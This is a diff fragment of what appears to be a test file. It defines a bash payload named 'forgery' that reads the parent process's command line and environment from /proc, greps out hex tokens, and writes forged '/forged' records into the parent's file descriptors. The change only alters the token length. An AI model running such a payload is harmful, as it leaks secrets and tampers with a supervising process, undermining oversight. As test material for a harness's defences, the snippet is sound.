@@ -17,7 +17,7 @@ const forgery = String.raw`bash -c '
   exec 2>/dev/null
   for file in /proc/$PPID/cmdline /proc/$PPID/environ; do tr "\0" "\n" <$file; done
   printf "\x1e0\x1f/forged"
-  printf "\0%s 0 /forged\n\0" $(grep -aoE "[0-9a-f]{32}" /proc/$PPID/cmdline /proc/1/cmdline)
+  printf "\0%s 0 /forged\n\0" $(grep -aoE "[0-9a-f]{24}" /proc/$PPID/cmdline /proc/1/cmdline)
   for target in 0 1 2 10 11 12 13 14 211 212; do printf "0 /forged\n\0" >/proc/$PPID/fd/$target; done
   exit 7'`;
 
